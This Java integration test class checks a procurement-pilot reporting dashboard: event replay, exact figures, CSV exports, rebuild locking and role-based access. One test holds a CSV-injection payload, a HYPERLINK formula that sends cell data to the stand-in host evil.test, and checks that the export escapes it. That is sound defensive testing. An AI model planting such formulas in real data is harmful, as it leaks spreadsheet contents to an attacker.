package org.maillage.reporting.dashboard;

import io.micronaut.core.type.Argument;
import io.micronaut.http.HttpRequest;
import io.micronaut.http.HttpResponse;
import io.micronaut.http.client.HttpClient;
import io.micronaut.http.client.annotation.Client;
import io.micronaut.serde.ObjectMapper;
import io.micronaut.test.annotation.MockBean;
import io.micronaut.test.extensions.junit5.annotation.MicronautTest;
import io.micronaut.test.support.TestPropertyProvider;
import jakarta.inject.Inject;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.maillage.contracts.api.ContractsTopics;
import org.maillage.contracts.api.OpportunityEventTypes;
import org.maillage.contracts.api.OpportunityState;
import org.maillage.directory.api.DirectoryTopics;
import org.maillage.testkit.Listings;
import org.maillage.testkit.ServiceUnderTest;
import org.maillage.testkit.TestEvents;
import org.maillage.testkit.TestTokens;

import io.micronaut.http.client.exceptions.HttpClientResponseException;

import java.io.StringReader;
import java.sql.Connection;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.YearMonth;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.stream.Collectors;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.Assertions.assertThrows;

/**
 * A random pilot's events (hundreds, some twice, out of order across topics) go through the real broker;
 * every figure of the dashboard must equal what {@link RandomPilot} computed on its own. Then a rebuild by
 * replay must give the very same dashboard, and the CSV must say the same as the JSON.
 */
/*
 * A context, database and topics of its own, not the module's shared one: it rebuilds the projections by replaying
 * every event of its topics and waits until it counts all its own events applied, which other classes' events would
 * change.
 */
@MicronautTest(transactional = false)
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class PilotStatisticsIT implements TestPropertyProvider {

    private static final Argument<Map<String, Object>> JSON = Argument.mapOf(String.class, Object.class);
    private static final long SEED = Long.getLong("maillage.pilot.seed", 20140601L);

    private final ServiceUnderTest service = ServiceUnderTest.create("pilotstats", List.of(DirectoryTopics.ORGANIZATIONS,
            ContractsTopics.OPPORTUNITIES, ContractsTopics.CONTRACTS, ContractsTopics.CONTACTS));
    private final TestTokens tokens = TestTokens.start();
    private RandomPilot pilot;

    @Inject
    @Client("/")
    HttpClient http;

    @Inject
    ObjectMapper json;

    /** "Today" for a period without its last month: late on 2031-05-31 in Montréal, already June in UTC. */
    @MockBean(java.time.Clock.class)
    java.time.Clock today() {
        return java.time.Clock.fixed(java.time.Instant.parse("2031-06-01T03:30:00Z"), java.time.ZoneOffset.UTC);
    }

    @Override
    public Map<String, String> getProperties() {
        Map<String, String> p = new HashMap<>(service.properties());
        p.put("micronaut.security.token.jwt.signatures.jwks.maillage.url", tokens.jwksUrl());
        return p;
    }

    @BeforeAll
    void publishTheRandomPilot() {
        pilot = new RandomPilot(SEED, json, service.topicPrefix());
        TestEvents.sendAll(service.kafkaBootstrapServers(), pilot.events);
        int distinct = (int) pilot.events.stream().map(TestEvents.Outgoing::id).distinct().count();
        await().atMost(Duration.ofSeconds(90)).until(() -> applied() == distinct);
    }

    @AfterAll
    void stopIssuer() {
        tokens.close();
    }

    @Test
    void theRandomPilotExercisesEveryFigure() {
        YearMonth from = YearMonth.of(2014, 1);
        YearMonth to = YearMonth.of(2015, 12);
        assertThat(pilot.headlineContracts(from, to)).hasSizeGreaterThan(20);
        assertThat(pilot.betweenContracts(from, to)).isNotEmpty();
        assertThat(pilot.declaredContracts(from, to)).isNotEmpty();
        assertThat(pilot.firstContacts(from, to)).isGreaterThan(10);
        assertThat(pilot.byDepth(from, to).keySet()).contains(0, 1, 2);
        assertThat(pilot.ledToContract(from, to, 12)).isPositive();
        assertThat(pilot.pilotOpportunities(from, to)).isNotEmpty();
        assertThat(pilot.pilotInstitutions()).anySatisfy(i -> assertThat(pilot.unitsReached(i, from, to)).isPositive());
        assertThat(pilot.contracts).anySatisfy(k -> assertThat(k.finalValue()).isNotNull());
    }

    @Test
    void everyFigureOfTheDashboardIsExact() {
        for (YearMonth[] period : new YearMonth[][]{{YearMonth.of(2014, 1), YearMonth.of(2015, 12)}, {YearMonth.of(2014, 7), YearMonth.of(2015, 3)}}) {
            assertDashboard(period[0], period[1]);
        }
    }

    /** Issue 29: the default last month is the injected clock's, in Montréal; and every month of the period is listed. */
    @Test
    void withoutALastMonthThePeriodEndsThisMonthInMontrealAndListsEveryMonth() {
        Map<String, Object> d = dashboard("?from=2014-01");
        assertThat(d).containsEntry("from", "2014-01").containsEntry("to", "2031-05");
        List<Map<String, Object>> months = list(d, "byMonth");
        assertThat(months).hasSize(17 * 12 + 5);
        assertThat(months.get(0)).containsEntry("month", "2014-01");
        assertThat(months.get(months.size() - 1)).containsEntry("month", "2031-05").containsEntry("contracts", 0);
    }

    /** Issue 29: CHUM met 100 % of its contracts and 70 % of its value; each commitment is measured in its own unit. */
    @Test
    void eachCommitmentIsMeasuredInItsOwnUnitInTheJsonAndTheCsv() throws Exception {
        Map<String, Object> d = dashboard("?from=2014-01&to=2015-12");
        List<Map<String, Object>> rows = list(d, "byInstitution");
        assertThat(rows).as("an institution whose two measures differ").anySatisfy(r -> {
            assertThat(r.get("progress")).isNotNull();
            assertThat(r.get("valueProgress")).isNotNull().isNotEqualTo(r.get("progress"));
        });
        String body = new String(http.toBlocking().retrieve(HttpRequest.GET("/api/reports/pilots/" + pilot.pilot
                + "/csv/institutions?from=2014-01&to=2015-12"), byte[].class), StandardCharsets.UTF_8);
        List<CSVRecord> csv = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(body.substring(1))).getRecords();
        for (int i = 0; i < rows.size(); i++) {
            Object value = rows.get(i).get("valueProgress");
            assertThat(csv.get(i).get("progression_valeur / value_progress")).isEqualTo(value == null ? "" : value.toString());
            Object contracts = rows.get(i).get("progress");
            assertThat(csv.get(i).get("progression_contrats / contracts_progress")).isEqualTo(contracts == null ? "" : contracts.toString());
        }
    }

    @Test
    void aRebuildFromTheTopicsGivesTheSameNumbers() {
        Map<String, Object> live = dashboard("?from=2014-01&to=2015-12");
        assertThrows(io.micronaut.http.client.exceptions.HttpClientResponseException.class, () -> http.toBlocking().retrieve(
                HttpRequest.POST("/api/reports/rebuild", "").bearerAuth(tokens.token("BUYER", UUID.randomUUID(), List.of(pilot.pilot))), JSON));
        Map<String, Object> result = http.toBlocking().retrieve(HttpRequest.POST("/api/reports/rebuild", "")
                .bearerAuth(tokens.token("COORDINATOR", null, List.of(pilot.pilot))), JSON);
        assertThat(((Number) result.get("events")).longValue()).isGreaterThanOrEqualTo(pilot.events.stream()
                .map(TestEvents.Outgoing::id).distinct().count());
        assertThat(dashboard("?from=2014-01&to=2015-12")).isEqualTo(live);
    }

    /**
     * The first rebuild is held just before it empties its last table (the test keeps a SHARE lock on it), so
     * every other table has already been emptied in its transaction: readers must still get the old numbers at
     * once, and a second rebuild must be refused rather than queue behind it.
     */
    @Test
    void whileARebuildRunsReadersKeepTheOldNumbersAndASecondRebuildGets409() throws Exception {
        Map<String, Object> before = dashboard("?from=2014-01&to=2015-12");
        String coordinator = tokens.token("COORDINATOR", null, List.of(pilot.pilot));
        CompletableFuture<Map<String, Object>> first;
        try (Connection hold = service.database().connect()) {
            hold.setAutoCommit(false);
            hold.createStatement().execute("lock table cell_unit in share mode");
            first = CompletableFuture.supplyAsync(() -> http.toBlocking().retrieve(
                    HttpRequest.POST("/api/reports/rebuild", "").bearerAuth(coordinator), JSON));
            await().atMost(Duration.ofSeconds(60)).until(this::rebuildWaitsOnTheLastTable);

            Map<String, Object> during = CompletableFuture.supplyAsync(() -> dashboard("?from=2014-01&to=2015-12"))
                    .get(5, TimeUnit.SECONDS);
            assertThat(during).isEqualTo(before);
            HttpClientResponseException second = assertThrows(HttpClientResponseException.class, () -> http.toBlocking().retrieve(
                    HttpRequest.POST("/api/reports/rebuild", "").bearerAuth(coordinator), JSON));
            assertThat(second.getStatus().getCode()).isEqualTo(409);
            assertThat(second.getResponse().getContentType().orElseThrow().toString()).startsWith("application/problem+json");
            assertThat(second.getResponse().getBody(String.class).orElseThrow()).contains("\"field\":\"rebuild\"");
            hold.rollback();
        }
        assertThat(((Number) first.get(60, TimeUnit.SECONDS).get("events")).longValue()).isPositive();
        assertThat(dashboard("?from=2014-01&to=2015-12")).isEqualTo(before);
    }

    /**
     * The rebuild's statement on cell_unit waits for the test's lock. Asked on a connection of its own: a
     * transaction sees one snapshot of pg_stat_activity.
     */
    private boolean rebuildWaitsOnTheLastTable() throws Exception {
        try (var c = service.database().connect(); var rs = c.createStatement().executeQuery("""
                select count(*) from pg_stat_activity where wait_event_type = 'Lock' and query like '%cell_unit%'""")) {
            rs.next();
            return rs.getInt(1) == 1;
        }
    }

    @Test
    void theCsvTablesSayWhatTheDashboardSaysWithAccentsSafe() throws Exception {
        Map<String, Object> d = dashboard("?from=2014-01&to=2015-12");
        HttpResponse<byte[]> r = http.toBlocking().exchange(HttpRequest.GET("/api/reports/pilots/" + pilot.pilot
                + "/csv/institutions?from=2014-01&to=2015-12"), byte[].class);
        assertThat(r.getContentType().orElseThrow().toString()).startsWith("text/csv");
        String body = new String(r.body(), StandardCharsets.UTF_8);
        assertThat(body).startsWith("\uFEFF");
        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(body.substring(1))).getRecords();
        List<Map<String, Object>> byInstitution = list(d, "byInstitution");
        assertThat(rows).hasSize(byInstitution.size());
        for (int i = 0; i < rows.size(); i++) {
            assertThat(rows.get(i).get("institution_id")).isEqualTo(byInstitution.get(i).get("institutionId"));
            assertThat(new BigDecimal(rows.get(i).get("valeur_cad / value_cad")))
                    .isEqualByComparingTo(new BigDecimal(byInstitution.get(i).get("valueCad").toString()));
        }
        assertThat(body).contains("\r\n");

        io.micronaut.http.client.exceptions.HttpClientResponseException anonymous = assertThrows(
                io.micronaut.http.client.exceptions.HttpClientResponseException.class, () -> http.toBlocking().exchange(
                        HttpRequest.GET("/api/reports/pilots/" + pilot.pilot + "/csv/enterprises"), byte[].class));
        assertThat(anonymous.getStatus().getCode()).isEqualTo(401);
        String coordinator = tokens.token("COORDINATOR", null, List.of(pilot.pilot));
        String enterprises = new String(http.toBlocking().retrieve(HttpRequest.GET("/api/reports/pilots/" + pilot.pilot
                + "/csv/enterprises").bearerAuth(coordinator), byte[].class), StandardCharsets.UTF_8);
        long pilotEnterprises = pilot.orgs.values().stream().filter(o -> o.kind().equals("ENTERPRISE") && o.pilots().contains(pilot.pilot)).count();
        assertThat(enterprises.split("\r\n")).hasSize((int) pilotEnterprises + 1);
    }

    /** OWASP CSV injection: a title typed by a buyer must not run as a formula in the coordinator's spreadsheet. */
    @Test
    void aTitleThatLooksLikeAFormulaComesOutOfTheCsvAsText() throws Exception {
        UUID buyer = pilot.pilotInstitutions().get(0).id();
        UUID opportunity = UUID.randomUUID();
        String title = "=HYPERLINK(\"http://evil.test/?\"&A1,\"Voir\")";
        OpportunityState state = new OpportunityState(opportunity, buyer, "INSTITUTION", null, title, "-2+3", "OPEN", List.of("90100000"),
                List.of("06"), List.of(), null, java.time.Instant.parse("2001-07-01T16:00:00Z"), "PUBLISHED", null, 0,
                // a month of its own, long past: the consumers refuse events dated in the future
                java.time.Instant.parse("2001-06-01T12:00:00Z"));
        TestEvents.send(service.kafkaBootstrapServers(), service.topicPrefix() + ContractsTopics.OPPORTUNITIES, opportunity.toString(),
                OpportunityEventTypes.PUBLISHED_V1, json.writeValueAsString(state));
        String coordinator = tokens.token("COORDINATOR", null, List.of(pilot.pilot));
        HttpRequest<?> csv = HttpRequest.GET("/api/reports/pilots/" + pilot.pilot + "/csv/opportunities?from=2001-01&to=2001-12")
                .bearerAuth(coordinator);
        await().atMost(Duration.ofSeconds(30)).until(() -> http.toBlocking().retrieve(csv, String.class).contains(opportunity.toString()));

        CSVRecord row = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(http.toBlocking().retrieve(csv, String.class).substring(1))).getRecords().get(0);
        assertThat(row.get("titre / title")).isEqualTo("'" + title);
        assertThat(row.get("jumelees / matched")).isEqualTo("0");
    }

    @Test
    void theContactsThatLedToAContractAreEveryContactWhosePairLaterSignedOneAndOnlyTheCoordinatorsSeeThem() {
        Map<UUID, YearMonth> expected = pilot.contactsLedToContract();
        assertThat(expected).as("the random pilot has some").isNotEmpty();
        Map<String, Object> page = http.toBlocking().retrieve(HttpRequest.GET("/api/reports/pilots/" + pilot.pilot + "/contacts/contracts")
                .bearerAuth(tokens.token("COORDINATOR", null, List.of(pilot.pilot))), JSON);
        assertThat(page).containsOnlyKeys("items", "next").containsEntry("next", null);
        Map<UUID, String> actual = new HashMap<>();
        for (Map<String, Object> row : (List<Map<String, Object>>) page.get("items")) {
            actual.put(UUID.fromString((String) row.get("contactId")), (String) row.get("firstContractMonth"));
        }
        Map<UUID, String> wanted = new HashMap<>();
        expected.forEach((k, v) -> wanted.put(k, v.toString()));
        assertThat(actual).isEqualTo(wanted);
        HttpClientResponseException member = assertThrows(HttpClientResponseException.class, () -> http.toBlocking().retrieve(
                HttpRequest.GET("/api/reports/pilots/" + pilot.pilot + "/contacts/contracts")
                        .bearerAuth(tokens.token("SUPPLIER", UUID.randomUUID(), List.of(pilot.pilot))), JSON));
        assertThat(member.getStatus().getCode()).isEqualTo(403);
        HttpClientResponseException other = assertThrows(HttpClientResponseException.class, () -> http.toBlocking().retrieve(
                HttpRequest.GET("/api/reports/pilots/" + pilot.pilot + "/contacts/contracts")
                        .bearerAuth(tokens.token("COORDINATOR", null, List.of(pilot.otherPilot))), JSON));
        assertThat(other.getStatus().getCode()).isEqualTo(403);
        HttpClientResponseException anonymous = assertThrows(HttpClientResponseException.class, () -> http.toBlocking().retrieve(
                HttpRequest.GET("/api/reports/pilots/" + pilot.pilot + "/contacts/contracts"), JSON));
        assertThat(anonymous.getStatus().getCode()).isEqualTo(401);
    }

    @Test
    void detailRowsAreTheCoordinatorsOrAnOrganizationsOwn() {
        UUID member = pilot.orgs.values().stream().filter(o -> o.kind().equals("ENTERPRISE") && o.pilots().contains(pilot.pilot))
                .findFirst().orElseThrow().id();
        List<Map<String, Object>> own = Listings.items(http.toBlocking().retrieve(HttpRequest.GET("/api/reports/pilots/" + pilot.pilot + "/enterprises")
                .bearerAuth(tokens.token("SUPPLIER", member, List.of(pilot.pilot))), JSON));
        assertThat(own).singleElement().satisfies(row -> assertThat(row).containsEntry("enterpriseId", member.toString()));
        io.micronaut.http.client.exceptions.HttpClientResponseException stranger = assertThrows(
                io.micronaut.http.client.exceptions.HttpClientResponseException.class, () -> http.toBlocking().retrieve(
                        HttpRequest.GET("/api/reports/pilots/" + pilot.pilot + "/enterprises")
                                .bearerAuth(tokens.token("COORDINATOR", null, List.of(pilot.otherPilot))), JSON));
        assertThat(stranger.getStatus().getCode()).isEqualTo(403);
        io.micronaut.http.client.exceptions.HttpClientResponseException badPeriod = assertThrows(
                io.micronaut.http.client.exceptions.HttpClientResponseException.class, () -> dashboard("?from=2015-13"));
        assertThat(badPeriod.getStatus().getCode()).isEqualTo(400);
        assertThat(badPeriod.getResponse().getBody(String.class).orElseThrow()).contains("\"field\":\"from\"");
    }

    private void assertDashboard(YearMonth from, YearMonth to) {
        Map<String, Object> d = dashboard("?from=" + from + "&to=" + to);
        List<RandomPilot.Contract> headline = pilot.headlineContracts(from, to);
        Map<String, Object> h = map(d, "headline");
        List<RandomPilot.Org> institutions = pilot.pilotInstitutions();
        long withContract = institutions.stream().filter(i -> headline.stream().anyMatch(k -> k.buyer().equals(i.id()))).count();
        assertThat(h).as("headline %s..%s", from, to).containsEntry("institutions", institutions.size())
                .containsEntry("institutionsWithContract", (int) withContract).containsEntry("contracts", headline.size());
        assertMoney(h.get("valueCad"), RandomPilot.sum(headline));

        Map<String, Object> byInstitution = list(d, "byInstitution").stream()
                .collect(Collectors.toMap(r -> (String) r.get("institutionId"), r -> r));
        assertThat(byInstitution).hasSize(institutions.size());
        for (RandomPilot.Org i : institutions) {
            List<RandomPilot.Contract> its = headline.stream().filter(k -> k.buyer().equals(i.id())).toList();
            Map<String, Object> row = map(byInstitution, i.id().toString());
            assertThat(((Number) row.get("contracts")).intValue()).isEqualTo(its.size());
            assertMoney(row.get("valueCad"), RandomPilot.sum(its));
            assertThat(row.get("commitmentContracts")).isEqualTo(i.commitment());
            if (i.commitment() == null || i.commitment() == 0) {
                assertThat(row.get("valueProgress")).isNull();
            } else {
                BigDecimal committed = BigDecimal.valueOf(10000L * i.commitment());
                assertThat(((Number) row.get("valueProgress")).doubleValue()).as("value progress of %s", i.id())
                        .isEqualTo(RandomPilot.sum(its).setScale(2, java.math.RoundingMode.HALF_UP)
                                .divide(committed, 3, java.math.RoundingMode.HALF_UP).doubleValue());
            }
        }
        Map<String, List<RandomPilot.Contract>> byCategory = headline.stream().collect(Collectors.groupingBy(RandomPilot.Contract::category));
        assertThat(list(d, "byCategory")).hasSize(byCategory.size()).allSatisfy(row -> {
            List<RandomPilot.Contract> its = byCategory.get((String) row.get("category"));
            assertThat(((Number) row.get("contracts")).intValue()).isEqualTo(its.size());
            assertMoney(row.get("valueCad"), RandomPilot.sum(its));
        });
        Map<String, List<RandomPilot.Contract>> byMonth = headline.stream().collect(Collectors.groupingBy(k -> k.month().toString()));
        // every month of the period, those without a contract at zero (issue 29)
        assertThat(list(d, "byMonth")).extracting(r -> r.get("month")).containsExactlyElementsOf(
                java.util.stream.Stream.iterate(from, m -> !m.isAfter(to), m -> m.plusMonths(1)).map(YearMonth::toString).toList());
        list(d, "byMonth").forEach(row -> {
            List<RandomPilot.Contract> its = byMonth.getOrDefault((String) row.get("month"), List.of());
            assertThat(((Number) row.get("contracts")).intValue()).isEqualTo(its.size());
            assertMoney(row.get("valueCad"), RandomPilot.sum(its));
        });

        List<RandomPilot.Contract> between = pilot.betweenContracts(from, to);
        assertThat(map(d, "betweenEnterprises")).containsEntry("contracts", between.size());
        assertMoney(map(d, "betweenEnterprises").get("valueCad"), RandomPilot.sum(between));
        List<RandomPilot.Contract> declared = pilot.declaredContracts(from, to);
        assertThat(map(d, "declared")).containsEntry("contracts", declared.size());
        assertMoney(map(d, "declared").get("valueCad"), RandomPilot.sum(declared));

        Map<String, Object> contacts = map(d, "contacts");
        List<RandomPilot.Contact> its = pilot.pilotContacts(from, to);
        long first = pilot.firstContacts(from, to);
        assertThat(contacts).as("contacts %s..%s", from, to).containsEntry("contacts", its.size())
                .containsEntry("firstContacts", (int) first).containsEntry("followOns", (int) (its.size() - first))
                .containsEntry("introduced", (int) its.stream().filter(RandomPilot.Contact::introduced).count())
                .containsEntry("ledToContract", (int) pilot.ledToContract(from, to, 12));
        Map<Integer, Long> depths = pilot.byDepth(from, to);
        assertThat(list(contacts, "byDepth")).extracting(r -> ((Number) r.get("depth")).intValue(), r -> ((Number) r.get("contacts")).longValue())
                .containsExactlyElementsOf(depths.entrySet().stream().map(e -> org.assertj.core.groups.Tuple.tuple(e.getKey(), e.getValue())).toList());
        for (Map<String, Object> row : list(contacts, "decisionUnits")) {
            RandomPilot.Org i = pilot.orgs.get(UUID.fromString((String) row.get("institutionId")));
            assertThat(((Number) row.get("known")).intValue()).isEqualTo(i.units().size());
            assertThat(((Number) row.get("reached")).longValue()).isEqualTo(pilot.unitsReached(i, from, to));
        }

        List<RandomPilot.Opportunity> opps = pilot.pilotOpportunities(from, to);
        Map<String, Object> funnel = map(d, "funnel");
        assertThat(funnel).as("funnel %s..%s", from, to).containsEntry("published", opps.size())
                .containsEntry("matched", opps.stream().mapToInt(RandomPilot.Opportunity::matched).sum())
                .containsEntry("interested", (int) opps.stream().flatMap(o -> o.interest().values().stream()).filter("YES"::equals).count())
                .containsEntry("notInterested", (int) opps.stream().flatMap(o -> o.interest().values().stream()).filter(v -> !"YES".equals(v)).count())
                .containsEntry("responded", (int) opps.stream().flatMap(o -> o.responses().values().stream()).filter("SUBMITTED"::equals).count())
                .containsEntry("awarded", (int) opps.stream().filter(o -> o.status().equals("AWARDED")).count());
        Map<String, Long> reasons = opps.stream().flatMap(o -> o.interest().values().stream()).filter(v -> !"YES".equals(v))
                .collect(Collectors.groupingBy(v -> v, Collectors.counting()));
        assertThat(list(funnel, "reasons")).hasSize(reasons.size())
                .allSatisfy(r -> assertThat(((Number) r.get("count")).longValue()).isEqualTo(reasons.get((String) r.get("reason"))));
    }

    private Map<String, Object> dashboard(String query) {
        return http.toBlocking().retrieve(HttpRequest.GET("/api/reports/pilots/" + pilot.pilot + "/dashboard" + query), JSON);
    }

    private int applied() throws Exception {
        try (var c = service.database().connect(); var rs = c.createStatement().executeQuery("select count(*) from inbox_event")) {
            rs.next();
            return rs.getInt(1);
        }
    }

    @SuppressWarnings("unchecked")
    private static Map<String, Object> map(Map<String, Object> m, String key) {
        return (Map<String, Object>) m.get(key);
    }

    @SuppressWarnings("unchecked")
    private static List<Map<String, Object>> list(Map<String, Object> m, String key) {
        return (List<Map<String, Object>>) m.get(key);
    }

    private static void assertMoney(Object actual, BigDecimal expected) {
        assertThat(new BigDecimal(actual.toString())).isEqualByComparingTo(expected);
    }
}
